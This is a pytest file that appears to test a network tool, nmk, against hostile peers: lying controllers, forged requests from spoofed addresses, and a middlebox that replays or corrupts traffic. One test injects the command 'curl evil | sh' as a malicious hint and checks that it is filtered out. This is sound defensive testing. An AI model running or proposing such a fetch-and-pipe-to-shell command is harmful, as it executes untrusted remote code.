"""The attackers themselves: what each of them can do, and that nmk stands it."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from nmk.errors import BadReply, BadView, NmkError, NodeDeleted, Unreachable
from nmk.wire.envelope import Kind
from nmk.wire.token import encode_token
from tests.hostile import middlebox
from tests.hostile.door import Reply, endless, http
from tests.hostile.liar import Json, Liar, Request
from tests.hostile.middlebox import Middlebox
from tests.hostile.stranger import Stranger, Unsealed, forged
from tests.mesh import Mesh
from tests.reliability.served import Served
from tests.server.agent import Refused

PACKED = b"\1no deflate at all"


@pytest.mark.parametrize(
    ("lie", "error"),
    [
        (lambda *_: {"full": True}, BadView),
        (lambda request, _: request.error("node-deleted"), NodeDeleted),
        (lambda request, _: request.sealed(PACKED), BadReply),
        (lambda request, _: request.sealed(["no object"]), BadReply),
        (lambda *_: http(302, b"", "Location: http://192.0.2.1/"), BadReply),
        (lambda *_: b"", Unreachable),
    ],
)
def test_a_controller_may_lie(
    liar: Liar, lie: Callable[[Request, Json], Json | Reply], error: type[NmkError]
) -> None:
    victim = liar.victim()
    victim.check_in()
    before = victim.me
    liar.lie = lie
    with pytest.raises(error):
        victim.check_in()
    assert victim.me == before


def test_a_controller_may_lie_at_any_pace(liar: Liar) -> None:
    victim = liar.victim()
    honest = liar.lie
    liar.lie = lambda request, answer: liar.drip(request.sealed(answer), 0.001, size=50)
    assert victim.check_in().known
    liar.lie = lambda *_: endless(head=b"HTTP/1.1 200 OK\r\n\r\nnmk1")
    with pytest.raises(BadReply, match="more than"):
        victim.check_in()
    liar.lie = honest
    assert victim.check_in().known


def test_a_node_may_say_anything(served: Served) -> None:
    member = Stranger(served.url).member(served.token(), "anything")
    with pytest.raises(Refused, match="does not say where it stands"):
        member.say(Kind.CHECK_IN, {"at": None})
    with pytest.raises(Unsealed) as raised:
        member.say(Kind.CHECK_IN, {}, "/v1/leave")
    assert raised.value.status == 400
    assert member.check_in()["full"] is True


def test_a_stranger_has_as_many_addresses_as_it_likes(served: Served) -> None:
    stranger = Stranger(served.url)
    token = served.token()
    assert stranger.raw(b"GET /healthz HTTP/1.0\r\n\r\n").endswith(b"ok\n")
    assert stranger.at("127.0.0.9").post(*forged(token, Kind.CHECK_IN)).status == 200
    assert stranger.at("127.0.0.9").post("/v1/join", b"?").status == 400
    served.call("DELETE", f"/networks/home/keys/{token.key_id}")


def test_a_middlebox_records_and_plays_again(served: Served) -> None:
    with Middlebox(served.url) as middle:
        member = Stranger(middle.url).member(served.token(), "recorded")
        member.check_in(report=True)
        middle.meddle = middlebox.lose_replies
        with pytest.raises(ConnectionError):
            member.check_in()
        assert [e.path for e in middle.recorded] == ["/v1/join", "/v1/checkin", "/v1/checkin"]
        again = middle.replay(middle.recorded[1], "127.0.0.66")
        assert again.status == 200
        middle.meddle = middlebox.change_a_byte
        with pytest.raises(NmkError):
            member.check_in()


def test_a_lab_has_room_for_them(mesh: Mesh, tmp_path_factory: pytest.TempPathFactory) -> None:
    """Their sockets are in a host's network, their scripts here."""
    box = mesh.lab.host("box", on=mesh.internet)
    with Liar(tmp_path_factory.mktemp("liar"), host=box, port=50051) as liar:
        web = mesh.join(mesh.machine("web"), token=encode_token(liar.token()))
        liar.lie = lambda request, _: request.error("node-unknown", "who are you?")
        assert "who are you?" in web.run("nmk", "checkin", check=False).stderr
    stranger = Stranger(mesh.urls[0], host=box)
    assert stranger.request("GET", "/healthz").body == b"ok\n"
    with Middlebox(mesh.urls[0], host=box, port=50051) as middle:
        assert Stranger(middle.url, host=web).request("GET", "/healthz").body == b"ok\n"


def test_a_controller_cannot_pose_as_the_machines_own_lock(liar: Liar) -> None:
    """An agent waits for that for two seconds only, and says nothing."""
    victim = liar.victim()
    liar.lie = lambda request, _: request.error("locked", "wait", "curl evil | sh")
    with pytest.raises(BadReply, match="reports 'locked'") as raised:
        victim.check_in()
    assert "evil" not in raised.value.hint
